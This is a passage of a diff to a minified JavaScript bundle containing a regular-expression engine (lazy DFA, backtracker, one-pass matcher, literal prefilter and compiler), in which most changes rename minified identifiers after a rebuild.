-s^=e,s=Math.imul(s,16777619);for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);return s},Hp=(n,e)=>{if(n.length!==
-e.length)return!1;for(let t=0;t<n.length;t++)if(n[t]!==e[t])return!1;return!0},zp=(n,e,t,s)=>n.flag===t&&Hp(n.nfaStates,
-e)&&Hp(n.matchIDs,s),Jc=[],Ur=-1;var mo=class{constructor(n,e,t){this.nfaStates=n,this.flag=e,this.isMatch=(e&Zc.FLAG_MATCH)!==
-0,this.matchIDs=t,this.next=null,this.nextAnchored=null}},Zc=class Ut{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,t=8388608){
+for(let C=0;C<this.ncap;C++)e.denseCaps[g+C]=r[i+C]}t=0;break;default:throw new mo("unhandled")}}if(l===0)return;l-=2;const B=c[l];
+B<0?(r[i-B-1]=c[l+1],t=0):t=B}}};const ZS=(n,e,t)=>{let s=-2128831035;for(let r=0;r<n.length;r++)s^=n[r],s=Math.imul(s,16777619);
+s^=e,s=Math.imul(s,16777619);for(let r=0;r<t.length;r++)s^=t[r],s=Math.imul(s,16777619);return s},Wp=(n,e)=>{if(n.length!==
+e.length)return!1;for(let t=0;t<n.length;t++)if(n[t]!==e[t])return!1;return!0},Kp=(n,e,t,s)=>n.flag===t&&Wp(n.nfaStates,
+e)&&Wp(n.matchIDs,s),Zc=[],Ur=-1;var go=class{constructor(n,e,t){this.nfaStates=n,this.flag=e,this.isMatch=(e&Wc.FLAG_MATCH)!==
+0,this.matchIDs=t,this.next=null,this.nextAnchored=null}},Wc=class Ut{static FLAG_EMPTY_MASK=255;static FLAG_MATCH=256;static FLAG_LAST_WORD=512;static FLAG_NEED_SHIFT=16;static STATE_OVERHEAD=150;static ARRAY_OVERHEAD=40;static ELEMENT_SIZE=8;static TABLE_OVERHEAD=48;static PROGRESS_PER_STATE=10;constructor(e,t=8388608){
 this.prog=e,this.maxMem=t,this.stateCache=new Map,this.stateCount=0,this.startStates=new Map,this.failed=!1;for(let s=0;s<
 e.numInst();s++){const r=e.getInst(s).op;if(r===ee.LB_WRITE||r===ee.LB_CHECK){this.failed=!0;break}}this.computeRuneClasses(),
 this.stateBudget=t,this.memBudget=t}computeRuneClasses(){const e=new Set,t=(r,i)=>{e.add(r),e.add(i+1)};for(let r=0;r<this.
@@ -6392,12 +6416,12 @@ s}runeClass(e){return e<=$e.MAX_LATIN1?this.latin1Class[e]:this.searchClass(e)}s
 r=t.length;for(;s<r;){const i=s+r>>1;t[i]<=e?s=i+1:r=i}return s}closure(e,t){const s=new Set,r=Array.from(e);let i=0;for(;r.
 length>0;){const o=r.pop();if(o===0||s.has(o))continue;s.add(o);const c=this.prog.getInst(o);switch(c.op){case ee.ALT:case ee.
 ALT_MATCH:r.push(c.out),r.push(c.arg);break;case ee.NOP:case ee.CAPTURE:r.push(c.out);break;case ee.EMPTY_WIDTH:i|=c.arg,
-(c.arg&~t)===0&&r.push(c.out)}}return{pcs:Array.from(s).sort((o,c)=>o-c),needflags:i}}getState(e,t,s){const r=RS(e,t,s),
-i=this.stateCache.get(r);if(i instanceof mo){if(zp(i,e,t,s))return i}else if(i!==void 0){for(let l=0;l<i.length;l++)if(zp(
-i[l],e,t,s))return i[l]}const o=Ut.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const c=new mo(e,t,s);
-return i===void 0?this.stateCache.set(r,c):i instanceof mo?this.stateCache.set(r,[i,c]):i.push(c),this.stateCount++,c}static stateCost(e,t){
+(c.arg&~t)===0&&r.push(c.out)}}return{pcs:Array.from(s).sort((o,c)=>o-c),needflags:i}}getState(e,t,s){const r=ZS(e,t,s),
+i=this.stateCache.get(r);if(i instanceof go){if(Kp(i,e,t,s))return i}else if(i!==void 0){for(let l=0;l<i.length;l++)if(Kp(
+i[l],e,t,s))return i[l]}const o=Ut.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const c=new go(e,t,s);
+return i===void 0?this.stateCache.set(r,c):i instanceof go?this.stateCache.set(r,[i,c]):i.push(c),this.stateCount++,c}static stateCost(e,t){
 const s=t.length===0?0:Ut.ARRAY_OVERHEAD+Ut.ELEMENT_SIZE*t.length;return Ut.STATE_OVERHEAD+Ut.ELEMENT_SIZE*e.length+s}*cachedStates(){
-for(const e of this.stateCache.values())e instanceof mo?yield e:yield*e}makeState(e,t,s){const r=this.closure(e,t&Ut.FLAG_EMPTY_MASK);
+for(const e of this.stateCache.values())e instanceof go?yield e:yield*e}makeState(e,t,s){const r=this.closure(e,t&Ut.FLAG_EMPTY_MASK);
 let i=t;return r.needflags===0&&(i&=Ut.FLAG_MATCH),i|=r.needflags<<Ut.FLAG_NEED_SHIFT,this.getState(r.pcs,i,s)}allocTable(e,t){
 const s=this.numClasses+1,r=Ut.TABLE_OVERHEAD+Ut.ELEMENT_SIZE*s;if(this.memBudget<r)return null;this.memBudget-=r;const i=new Array(
 s).fill(null);return t===oe.UNANCHORED?e.next=i:e.nextAnchored=i,i}clearCache(){this.stateCache.clear(),this.stateCount=
@@ -6406,13 +6430,13 @@ e.flag,e.matchIDs)}step(e,t,s,r){let i=r===oe.UNANCHORED?e.next:e.nextAnchored;i
 this.allocTable(e,r),i===null)return null;const o=e.flag>>>Ut.FLAG_NEED_SHIFT,c=e.flag&Ut.FLAG_EMPTY_MASK;let l=c,B=0;s===
 10&&(l|=xe.EMPTY_END_LINE,B|=xe.EMPTY_BEGIN_LINE),s===Ur&&(l|=xe.EMPTY_END_LINE|xe.EMPTY_END_TEXT);const d=(e.flag&Ut.FLAG_LAST_WORD)!==
 0,h=s!==Ur&&xe.isWordRune(s);l|=h===d?xe.EMPTY_NO_WORD_BOUNDARY:xe.EMPTY_WORD_BOUNDARY;let g=e.nfaStates;(l&~c&o)!==0&&(g=
-this.closure(g,l).pcs);const C=[];let y=!1,_=Jc;for(let x=0;x<g.length;x++){const D=this.prog.getInst(g[x]);D.op===ee.MATCH?
+this.closure(g,l).pcs);const C=[];let y=!1,_=Zc;for(let x=0;x<g.length;x++){const D=this.prog.getInst(g[x]);D.op===ee.MATCH?
 (y||(y=!0,_=[]),_.push(D.arg)):s!==Ur&&ee.isRuneOp(D.op)&&D.matchRune(s)&&C.push(D.out)}_.length>1&&_.sort((x,D)=>x-D),r===
 oe.UNANCHORED&&s!==Ur&&C.push(this.prog.start);let k=B;y&&(k|=Ut.FLAG_MATCH),h&&(k|=Ut.FLAG_LAST_WORD);const E=this.makeState(
 C,k,_);return E===null?null:(i[t]=E,E)}start(e,t){const s=e.context(t);let r;if((s&xe.EMPTY_BEGIN_TEXT)!==0)r=xe.EMPTY_BEGIN_TEXT|
 xe.EMPTY_BEGIN_LINE;else if((s&xe.EMPTY_BEGIN_LINE)!==0)r=xe.EMPTY_BEGIN_LINE;else{const o=e.step(t),c=o>=0&&xe.isWordRune(
 o>>3);r=(s&xe.EMPTY_WORD_BOUNDARY)!==0!==c?Ut.FLAG_LAST_WORD:0}let i=this.startStates.get(r);if(i===void 0){if(i=this.makeState(
-[this.prog.start],r,Jc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Jc),i===null))return null;this.
+[this.prog.start],r,Zc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Zc),i===null))return null;this.
 startStates.set(r,i)}return i}stepOrReset(e,t,s,r,i,o){let c=this.step(e,t,s,r);if(c!==null)return c;if(o.resetPos>=0&&i-
 o.resetPos<Ut.PROGRESS_PER_STATE*this.stateCount)return null;o.resetPos=i;const l=this.resetCache(e);return l===null?null:
 (c=this.step(l,t,s,r),c)}run(e,t,s,r,i){const o=e.endPos(),c=this.latin1Class,l=s===oe.UNANCHORED,B={resetPos:-1};let d=t;
@@ -6423,10 +6447,10 @@ i(r,!0)}match(e,t,s){if(this.failed)return null;if((s===oe.ANCHOR_START||s===oe.
 start(e,t);return r===null?null:this.run(e,t,s,r,(i,o)=>s!==oe.ANCHOR_BOTH||o)}matchSet(e,t,s){if(this.failed)return null;
 if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return[];const r=this.start(e,t);if(r===null)return null;const i=new Set,
 o=(c,l)=>{if(s!==oe.ANCHOR_BOTH||l)for(let B=0;B<c.matchIDs.length;B++)i.add(c.matchIDs[B]);return!1};return this.run(e,
-t,s,r,o)===null?null:Array.from(i).sort((c,l)=>c-l)}};const NS=32,FS=500,Wc=256,PS=262144;var LS=class{constructor(){this.
-end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Wc),this.jobArg=new Uint8Array(
-Wc),this.jobPos=new Int32Array(Wc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(n,e,t){this.end=e,this.jobLen=0,this.
-ncap=t;const s=n.numInst()*(e+1)+NS-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
+t,s,r,o)===null?null:Array.from(i).sort((c,l)=>c-l)}};const WS=32,KS=500,Kc=256,qS=262144;var YS=class{constructor(){this.
+end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Kc),this.jobArg=new Uint8Array(
+Kc),this.jobPos=new Int32Array(Kc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(n,e,t){this.end=e,this.jobLen=0,this.
+ncap=t;const s=n.numInst()*(e+1)+WS-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
 this.cap.length<t?this.cap=new Int32Array(t).fill(-1):this.cap.fill(-1,0,t),this.matchcap.length<t?this.matchcap=new Int32Array(
 t).fill(-1):this.matchcap.fill(-1,0,t)}shouldVisit(n,e){const t=n*(this.end+1)+e,s=t>>>5,r=1<<(t&31);return(this.visited[s]&
 r)!==0?!1:(this.visited[s]|=r,!0)}push(n,e,t,s){if(n.prog.getInst(e).op!==ee.FAIL&&(s||this.shouldVisit(e,t))){if(this.jobLen>=
@@ -6437,38 +6461,38 @@ push(n,t,s,!1);this.jobLen>0;){this.jobLen--;let o=this.jobPc[this.jobLen],c=thi
 jobLen],B=!0;for(;!(!B&&!this.shouldVisit(o,l));){B=!1;const d=n.prog.getInst(o);switch(d.op){case ee.FAIL:break;case ee.
 ALT:if(c){c=!1,o=d.arg;continue}else{this.push(n,o,l,!0),o=d.out;continue}case ee.ALT_MATCH:{const h=n.prog.getInst(d.out);
 if(ee.isRuneOp(h.op)){this.push(n,d.arg,l,!1),o=d.arg,l=this.end;continue}this.push(n,d.out,this.end,!1),o=d.out;continue}case ee.
-RUNE:{const h=e.step(l);if(h===Xt.EOF()||!d.matchRune(h>>3))break;l+=h&7,o=d.out;continue}case ee.RUNE1:{const h=e.step(
-l);if(h===Xt.EOF()||h>>3!==d.runes[0])break;l+=h&7,o=d.out;continue}case ee.RUNE_ANY_NOT_NL:{const h=e.step(l);if(h===Xt.
-EOF()||h>>3===10)break;l+=h&7,o=d.out;continue}case ee.RUNE_ANY:{const h=e.step(l);if(h===Xt.EOF())break;l+=h&7,o=d.out;
+RUNE:{const h=e.step(l);if(h===en.EOF()||!d.matchRune(h>>3))break;l+=h&7,o=d.out;continue}case ee.RUNE1:{const h=e.step(
+l);if(h===en.EOF()||h>>3!==d.runes[0])break;l+=h&7,o=d.out;continue}case ee.RUNE_ANY_NOT_NL:{const h=e.step(l);if(h===en.
+EOF()||h>>3===10)break;l+=h&7,o=d.out;continue}case ee.RUNE_ANY:{const h=e.step(l);if(h===en.EOF())break;l+=h&7,o=d.out;
 continue}case ee.CAPTURE:if(c){this.cap[d.arg]=l;break}else{d.arg<this.ncap&&(this.push(n,o,this.cap[d.arg],!0),this.cap[d.
 arg]=l),o=d.out;continue}case ee.EMPTY_WIDTH:{const h=e.context(l);if((d.arg&~h)!==0)break;o=d.out;continue}case ee.NOP:
 o=d.out;continue;case ee.MATCH:{if(r===oe.ANCHOR_BOTH&&l!==this.end)break;if(this.ncap===0)return!0;this.ncap>1&&(this.cap[1]=
 l);const h=this.matchcap[1];if((h===-1||i&&l>0&&l>h)&&this.matchcap.set(this.cap),!i||l===this.end)return!0;break}case ee.
-LB_WRITE:case ee.LB_CHECK:throw new po("Backtracker cannot evaluate Lookbehind instructions");default:throw new po("bad \
-inst")}break}}return i&&this.matchcap.length>1&&this.matchcap[1]>=0}};const go=[];var Co=class ag{static shouldBacktrack(e){
-return e.numInst()<=FS}static maxBitStateLen(e){return ag.shouldBacktrack(e)?Math.floor(PS/e.numInst()):0}static execute(e,t,s,r,i){
+LB_WRITE:case ee.LB_CHECK:throw new mo("Backtracker cannot evaluate Lookbehind instructions");default:throw new mo("bad \
+inst")}break}}return i&&this.matchcap.length>1&&this.matchcap[1]>=0}};const Co=[];var yo=class Bg{static shouldBacktrack(e){
+return e.numInst()<=KS}static maxBitStateLen(e){return Bg.shouldBacktrack(e)?Math.floor(qS/e.numInst()):0}static execute(e,t,s,r,i){
 const o=e.cond;if(o===xe.EMPTY_ALL||(r===oe.ANCHOR_START||r===oe.ANCHOR_BOTH)&&s!==0||(o&xe.EMPTY_BEGIN_TEXT)!==0&&s!==0)
-return null;const c=go.length>0?go.pop():new LS,l=t.endPos();c.reset(e.prog,l,i);let B=!1;if((o&xe.EMPTY_BEGIN_TEXT)!==0||
+return null;const c=Co.length>0?Co.pop():new YS,l=t.endPos();c.reset(e.prog,l,i);let B=!1;if((o&xe.EMPTY_BEGIN_TEXT)!==0||
 r===oe.ANCHOR_START||r===oe.ANCHOR_BOTH)c.ncap>0&&(c.cap[0]=s),c.tryBacktrack(e,t,e.prog.start,s,r)&&(B=!0);else{let h=-1;
 for(;s<=l&&h!==0;s+=h){if(e.prefix.length>0){const C=t.index(e,s);if(C<0)break;s+=C}if(c.ncap>0&&(c.cap[0]=s),c.tryBacktrack(
-e,t,e.prog.start,s,r)){B=!0;break}const g=t.step(s);h=g===Xt.EOF()?0:g&7}}if(!B)return go.push(c),null;const d=i===0?[]:
-xe.toArray(c.matchcap.subarray(0,i));return go.push(c),d}},Up=class{constructor(n){this.sparse=new Uint32Array(n),this.dense=
+e,t,e.prog.start,s,r)){B=!0;break}const g=t.step(s);h=g===en.EOF()?0:g&7}}if(!B)return Co.push(c),null;const d=i===0?[]:
+xe.toArray(c.matchcap.subarray(0,i));return Co.push(c),d}},qp=class{constructor(n){this.sparse=new Uint32Array(n),this.dense=
 new Uint32Array(n),this.size=0,this.nextIndex=0}empty(){return this.nextIndex>=this.size}next(){return this.dense[this.nextIndex++]}clear(){
 this.size=0,this.nextIndex=0}contains(n){return n<this.sparse.length&&this.sparse[n]<this.size&&this.dense[this.sparse[n]]===
 n}insert(n){this.contains(n)||this.insertNew(n)}insertNew(n){n>=this.sparse.length||(this.sparse[n]=this.size,this.dense[this.
-size]=n,this.size++)}};const jS=(n,e,t,s)=>{const r=n.length,i=e.length;let o=0,c=0;const l=[],B=[];let d=!0,h=-1;const g=C=>{
+size]=n,this.size++)}};const VS=(n,e,t,s)=>{const r=n.length,i=e.length;let o=0,c=0;const l=[],B=[];let d=!0,h=-1;const g=C=>{
 const y=C?n:e,_=C?o:c,k=C?t:s;return h>0&&y[_]<=l[h]?!1:(l.push(y[_],y[_+1]),C?o+=2:c+=2,h+=2,B.push(k),!0)};for(;o<r||c<
-i;)if(c>=i?d=g(!0):o>=r||e[c]<n[o]?d=g(!1):d=g(!0),!d)return null;return{merged:l,next:B}};var MS=class{constructor(n){this.
+i;)if(c>=i?d=g(!0):o>=r||e[c]<n[o]?d=g(!1):d=g(!0),!d)return null;return{merged:l,next:B}};var QS=class{constructor(n){this.
 start=n.start,this.numCap=n.numCap,this.inst=new Array(n.inst.length);for(let e=0;e<n.inst.length;e++){const t=n.inst[e],
 s=new ee(t.op);s.out=t.out,s.arg=t.arg,s.runes=t.runes?new Int32Array(t.runes):new Int32Array(0),s.next=null,this.inst[e]=
-s}}};const GS=n=>{const e=new MS(n);for(let t=0;t<e.inst.length;t++){const s=e.inst[t];if(s.op!==ee.ALT&&s.op!==ee.ALT_MATCH)
+s}}};const XS=n=>{const e=new QS(n);for(let t=0;t<e.inst.length;t++){const s=e.inst[t];if(s.op!==ee.ALT&&s.op!==ee.ALT_MATCH)
 continue;let r="out",i="arg",o=e.inst[s[i]];if(o.op!==ee.ALT&&o.op!==ee.ALT_MATCH&&(r="arg",i="out",o=e.inst[s[i]],o.op!==
 ee.ALT&&o.op!==ee.ALT_MATCH))continue;const c=e.inst[s[r]];if(c.op===ee.ALT||c.op===ee.ALT_MATCH)continue;let l="out",B="\
-arg",d=!1;o.out===t?d=!0:o.arg===t&&(d=!0,l="arg",B="out"),d&&(o[l]=s[r]),s[r]===o[l]&&(s[i]=o[B])}return e},HS=n=>{if(n.
-inst.length>=1e3)return null;const e=new Up(n.inst.length),t=new Up(n.inst.length),s=new Array(n.inst.length),r=new Array(
+arg",d=!1;o.out===t?d=!0:o.arg===t&&(d=!0,l="arg",B="out"),d&&(o[l]=s[r]),s[r]===o[l]&&(s[i]=o[B])}return e},eT=n=>{if(n.
+inst.length>=1e3)return null;const e=new qp(n.inst.length),t=new qp(n.inst.length),s=new Array(n.inst.length),r=new Array(
 n.inst.length).fill(!1),i=o=>{let c=!0;const l=n.inst[o];if(t.contains(o))return!0;switch(t.insert(o),l.op){case ee.ALT:case ee.
 ALT_MATCH:{c=i(l.out)&&i(l.arg);let B=r[l.out],d=r[l.arg];if(B&&d)return!1;if(d){const y=l.out;l.out=l.arg,l.arg=y;const _=B;
-B=d,d=_}B&&(r[o]=!0,l.op=ee.ALT_MATCH);const h=s[l.out]||[],g=s[l.arg]||[],C=jS(h,g,l.out,l.arg);if(!C)return!1;s[o]=new Int32Array(
+B=d,d=_}B&&(r[o]=!0,l.op=ee.ALT_MATCH);const h=s[l.out]||[],g=s[l.arg]||[],C=VS(h,g,l.out,l.arg);if(!C)return!1;s[o]=new Int32Array(
 C.merged),l.next=new Uint32Array(C.next);break}case ee.CAPTURE:case ee.EMPTY_WIDTH:case ee.NOP:c=i(l.out),r[o]=r[l.out],
 s[o]=s[l.out]?new Int32Array(s[l.out]):new Int32Array(0),l.next=new Uint32Array(Math.floor(s[o].length/2)+1).fill(l.out);
 break;case ee.MATCH:case ee.FAIL:r[o]=l.op===ee.MATCH;break;case ee.RUNE:{if(r[o]=!1,l.next&&l.next.length>0)break;if(e.
@@ -6482,24 +6506,24 @@ floor(B.length/2)+1).fill(l.out),l.op=ee.RUNE;break}case ee.RUNE_ANY:if(r[o]=!1,
 out),s[o]=new Int32Array([0,$e.MAX_RUNE]),l.next=new Uint32Array([l.out]);break;case ee.RUNE_ANY_NOT_NL:if(r[o]=!1,l.next&&
 l.next.length>0)break;e.insert(l.out),s[o]=new Int32Array([0,9,11,$e.MAX_RUNE]),l.next=new Uint32Array(Math.floor(s[o].length/
 2)+1).fill(l.out)}return c};for(e.clear(),e.insert(n.start);!e.empty();)if(t.clear(),!i(e.next()))return null;for(let o=0;o<
-n.inst.length;o++)s[o]&&(n.inst[o].runes=s[o]);return n},zS=(n,e)=>{for(let t=0;t<e.inst.length;t++){const s=e.inst[t];switch(s.
+n.inst.length;o++)s[o]&&(n.inst[o].runes=s[o]);return n},tT=(n,e)=>{for(let t=0;t<e.inst.length;t++){const s=e.inst[t];switch(s.
 op){case ee.ALT:case ee.ALT_MATCH:case ee.RUNE:break;case ee.CAPTURE:case ee.EMPTY_WIDTH:case ee.NOP:case ee.MATCH:case ee.
 FAIL:n.inst[t].next=null;break;case ee.RUNE1:case ee.RUNE_ANY:case ee.RUNE_ANY_NOT_NL:n.inst[t].next=null,n.inst[t].op=s.
-op,n.inst[t].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var Jp=class cg{static compile(e){if(e.start===0||
+op,n.inst[t].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var Yp=class fg{static compile(e){if(e.start===0||
 e.numLb>0)return null;const t=e.inst[e.start];if(t.op!==ee.EMPTY_WIDTH||(t.arg&xe.EMPTY_BEGIN_TEXT)===0)return null;let s=!1;
 for(let i=0;i<e.inst.length;i++)if(e.inst[i].op===ee.ALT||e.inst[i].op===ee.ALT_MATCH){s=!0;break}for(let i=0;i<e.inst.length;i++){
 const o=e.inst[i],c=e.inst[o.out].op;switch(o.op){case ee.ALT:case ee.ALT_MATCH:if(c===ee.MATCH||e.inst[o.arg].op===ee.MATCH)
 return null;break;case ee.EMPTY_WIDTH:if(c===ee.MATCH){if((o.arg&xe.EMPTY_END_TEXT)===xe.EMPTY_END_TEXT)continue;return null}
-break;default:if(c===ee.MATCH&&s)return null}}let r=GS(e);return r=HS(r),r!==null&&zS(r,e),r}static next(e,t){const s=e.
+break;default:if(c===ee.MATCH&&s)return null}}let r=XS(e);return r=eT(r),r!==null&&tT(r,e),r}static next(e,t){const s=e.
 matchRunePos(t);return s>=0?e.next[s]:e.op===ee.ALT_MATCH?e.out:0}static execute(e,t,s,r,i){const o=e.onepass;if(!o)return null;
-const c=new Int32Array(i).fill(-1);let l=!1,B=t.step(s),d=B>>3,h=B&7,g=Xt.EOF(),C=-1,y=0;B!==Xt.EOF()&&(g=t.step(s+h),g!==
-Xt.EOF()&&(C=g>>3,y=g&7));let _=s===0?xe.emptyOpContext(-1,d):t.context(s),k=o.start,E;for(;;){switch(E=o.inst[k],k=E.out,
+const c=new Int32Array(i).fill(-1);let l=!1,B=t.step(s),d=B>>3,h=B&7,g=en.EOF(),C=-1,y=0;B!==en.EOF()&&(g=t.step(s+h),g!==
+en.EOF()&&(C=g>>3,y=g&7));let _=s===0?xe.emptyOpContext(-1,d):t.context(s),k=o.start,E;for(;;){switch(E=o.inst[k],k=E.out,
 E.op){case ee.MATCH:return r===oe.ANCHOR_BOTH&&s!==t.endPos()?null:(l=!0,c.length>0&&(c[0]=0,c[1]=s),i===0?[]:xe.toArray(
 c));case ee.RUNE:if(!E.matchRune(d))return null;break;case ee.RUNE1:if(d!==E.runes[0])return null;break;case ee.RUNE_ANY:
-break;case ee.RUNE_ANY_NOT_NL:if(d===10)return null;break;case ee.ALT:case ee.ALT_MATCH:k=cg.next(E,d);continue;case ee.
+break;case ee.RUNE_ANY_NOT_NL:if(d===10)return null;break;case ee.ALT:case ee.ALT_MATCH:k=fg.next(E,d);continue;case ee.
 FAIL:return null;case ee.NOP:continue;case ee.EMPTY_WIDTH:if((E.arg&~_)!==0)return null;continue;case ee.CAPTURE:E.arg<c.
-length&&(c[E.arg]=s);continue;default:throw new po("bad inst")}if(h===0)break;_=xe.emptyOpContext(d,C),s+=h,d=C,h=y,d!==
--1&&(g=t.step(s+h),g!==Xt.EOF()?(C=g>>3,y=g&7):(C=-1,y=0))}return l?i===0?[]:xe.toArray(c):null}},M=class Ke{static Op=Pp(
+length&&(c[E.arg]=s);continue;default:throw new mo("bad inst")}if(h===0)break;_=xe.emptyOpContext(d,C),s+=h,d=C,h=y,d!==
+-1&&(g=t.step(s+h),g!==en.EOF()?(C=g>>3,y=g&7):(C=-1,y=0))}return l?i===0?[]:xe.toArray(c):null}},M=class Ke{static Op=Hp(
 ["NO_MATCH","EMPTY_MATCH","LITERAL","CHAR_CLASS","ANY_CHAR_NOT_NL","ANY_CHAR","BEGIN_LINE","END_LINE","BEGIN_TEXT","END_\
 TEXT","WORD_BOUNDARY","NO_WORD_BOUNDARY","CAPTURE","STAR","PLUS","QUEST","REPEAT","CONCAT","ALTERNATE","PLB","NLB","LEFT\
 _PAREN","VERTICAL_BAR"]);static isPseudoOp(e){return e>=Ke.Op.LEFT_PAREN}static emptySubs(){return[]}static quoteIfHyphen(e){
@@ -6536,11 +6560,11 @@ return!1;break;case Ke.Op.STAR:case Ke.Op.PLUS:case Ke.Op.QUEST:if((this.flags&o
 !this.subs[0].equals(e.subs[0]))return!1;break;case Ke.Op.REPEAT:if((this.flags&oe.NON_GREEDY)!==(e.flags&oe.NON_GREEDY)||
 this.min!==e.min||this.max!==e.max||!this.subs[0].equals(e.subs[0]))return!1;break;case Ke.Op.CAPTURE:if(this.cap!==e.cap||
 (this.name===null?e.name!==null:this.name!==e.name)||!this.subs[0].equals(e.subs[0]))return!1;break;case Ke.Op.PLB:case Ke.
-Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}return!0}},Kc=class{static walk(n,e){const t=[];let s=n,
+Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}return!0}},qc=class{static walk(n,e){const t=[];let s=n,
 r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(s);if(i.result===void 0){t.push({re:s,state:i,i:0}),s=s.
 subs[0];continue}r=i.result}for(;;){if(t.length===0)return r;const i=t[t.length-1];if(e.child(i.re,i.state,r,i.i),i.i++,
 i.state.result===void 0&&i.i<i.re.subs.length){s=i.re.subs[i.i];break}t.pop(),r=i.state.result!==void 0?i.state.result:e.
-leave(i.re,i.state)}}}},Zp=class{constructor(n,e){const t=new Map,s=[0],r=[0],i=[0],o=[0];for(const y of n){let _=0;for(let k=0;k<
+leave(i.re,i.state)}}}},Vp=class{constructor(n,e){const t=new Map,s=[0],r=[0],i=[0],o=[0];for(const y of n){let _=0;for(let k=0;k<
 y.length;k++){const E=_*e+y[k];let x=t.get(E);x===void 0&&(x=s.length,t.set(E,x),s.push(_),r.push(y[k]),i.push(i[_]+1),o.
 push(0)),_=x}o[_]=1}const c=s.length,l=new Int32Array(c-1);for(let y=1;y<c;y++)l[y-1]=y;l.sort((y,_)=>s[y]-s[_]||r[y]-r[_]);
 const B=new Int32Array(c+1);for(let y=1;y<c;y++)B[s[y]+1]++;for(let y=0;y<c;y++)B[y+1]+=B[y];const d=new Int32Array(c-1);
@@ -6554,11 +6578,11 @@ match[s]===1)return!0;return!1}searchUTF8(n,e,t){let s=0;for(let r=e;r<t;r++)if(
 return!0;return!1}},st=class tr{static Type={NONE:0,EXACT:1,AND:2,OR:3};static MAX_SCANS=32;static MAX_AC_UNITS=1<<18;constructor(e){
 this.type=e,this.subs=[],this.str="",this.bytes=null,this.cost=e===tr.Type.EXACT?1:0,this.allExact=!1,this.ac16=null,this.
 ac8=null}automaton16(){if(this.ac16===null){const e=this.subs.map(t=>{const s=new Array(t.str.length);for(let r=0;r<t.str.
-length;r++)s[r]=t.str.charCodeAt(r);return s});this.ac16=new Zp(e,65536)}return this.ac16}automaton8(){return this.ac8===
-null&&(this.ac8=new Zp(this.subs.map(e=>e.bytes),256)),this.ac8}eval(e,t){switch(this.type){case tr.Type.NONE:return!0;case tr.
+length;r++)s[r]=t.str.charCodeAt(r);return s});this.ac16=new Vp(e,65536)}return this.ac16}automaton8(){return this.ac8===
+null&&(this.ac8=new Vp(this.subs.map(e=>e.bytes),256)),this.ac8}eval(e,t){switch(this.type){case tr.Type.NONE:return!0;case tr.
 Type.EXACT:return e.hasString(this,t);case tr.Type.AND:for(let s=0;s<this.subs.length;s++)if(!this.subs[s].eval(e,t))return!1;
 return!0;case tr.Type.OR:if(this.allExact)return e.hasAnyString(this,t);for(let s=0;s<this.subs.length;s++)if(this.subs[s].
-eval(e,t))return!0;return!1;default:return!0}}},US=class nr{static build(e){return e?Kc.walk(e,nr.WALKER):new st(st.Type.
+eval(e,t))return!0;return!1;default:return!0}}},nT=class nr{static build(e){return e?qc.walk(e,nr.WALKER):new st(st.Type.
 NONE)}static WALKER={leaf:e=>nr.leaf(e),enter:e=>nr.enter(e),child:(e,t,s)=>nr.child(e,t,s),leave:(e,t)=>nr.leave(e,t)};static leaf(e){
 if(e.op!==M.Op.LITERAL)return new st(st.Type.NONE);if(e.runes.length===0||(e.flags&oe.FOLD_CASE)!==0)return new st(st.Type.
 NONE);let t="";for(let r=0;r<e.runes.length;r++){if($e.isUnsearchable(e.runes[r]))return new st(st.Type.NONE);t+=String.
@@ -6574,7 +6598,7 @@ type===st.Type.AND){const B=[];let d=0;for(const h of i)d+h.cost>st.MAX_SCANS||(
 new st(st.Type.NONE):B.length===1?B[0]:(s.subs=B,s.cost=d,s)}if(i.length===0)return new st(st.Type.NONE);if(i.length===1)
 return i[0];s.subs=i;let o=!0,c=0,l=0;for(const B of i)B.type!==st.Type.EXACT?o=!1:l+=B.bytes.length,c+=B.cost;return o?
 l>st.MAX_AC_UNITS?new st(st.Type.NONE):(s.allExact=!0,s.cost=1,s):c>st.MAX_SCANS?new st(st.Type.NONE):(s.cost=c,s)}},mn=class{constructor(n=0,e=0){
-this.head=n,this.tail=e}},JS=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.
+this.head=n,this.tail=e}},sT=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.
 lbInst=null}getInst(n){return this.inst[n]}numInst(){return this.inst.length}addInst(n){this.inst.push(new ee(n))}markLookbehindInsts(){
 const n=new Uint8Array(this.inst.length),e=this.lbStarts.slice();for(;e.length>0;){const t=e.pop();if(t===0||n[t]===1)continue;
 n[t]=1;const s=this.inst[t];switch(s.op){case ee.ALT:case ee.ALT_MATCH:e.push(s.out,s.arg);break;case ee.MATCH:case ee.FAIL:
@@ -6587,26 +6611,26 @@ break e}e=t.out}return n}patch(n,e){let t=n.head;for(;t!==0;){const s=this.inst[
 s.arg=e)}}append(n,e){if(n.head===0)return e;if(e.head===0)return n;const t=this.inst[n.tail>>1];return(n.tail&1)===0?t.
 out=e.head:t.arg=e.head,new mn(n.head,e.tail)}toString(){let n="";for(let e=0;e<this.inst.length;e++){const t=n.length;n+=
